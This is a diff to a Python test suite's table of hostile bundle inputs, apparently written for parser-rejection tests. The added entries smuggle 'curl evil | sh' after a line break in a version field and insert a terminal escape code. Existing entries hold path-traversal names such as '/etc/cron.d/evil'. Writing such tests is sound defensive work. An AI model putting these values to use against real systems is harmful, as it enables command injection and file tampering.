@@ -160,6 +160,12 @@ HOSTILE: dict[str, bytes] = {
         head_of().content.replace(b'"size": %d' % len(BIG), b'"size": -1')
     ),
     "an index with a size beyond all disks": with_index(lambda index: _changed(index, IMAGES, size=1 << 50)),
+    "an index with a line break in a word": with_index(
+        lambda index: msgspec.structs.replace(index, version="v1\nnext: curl evil | sh")
+    ),
+    "an index with an escape in a word": with_index(
+        lambda index: msgspec.structs.replace(index, cluster="\x1b[2J")
+    ),
     "an absolute path": renamed("/etc/cron.d/evil"),
     "a path that leaves": renamed("artifacts/../../evil"),
     "a path that leaves at once": renamed("../evil"),
@@ -217,6 +223,7 @@ HOSTILE: dict[str, bytes] = {
     "half an end": GOOD[:-BLOCK],
     "a note of another kind": with_note(b"{}\n"),
     "a note with unknown members": with_note(note(members=("README.txt", "artifacts/evil"))),
+    "a note with a line break": with_note(note(base_version="v1\n")),
     "a note without README": with_note(note(members=("cluster.yaml",))),
     "a note out of order": with_note(note(members=("cluster.yaml", "README.txt"))),
     "a signature of a gigabyte": GOOD.replace(
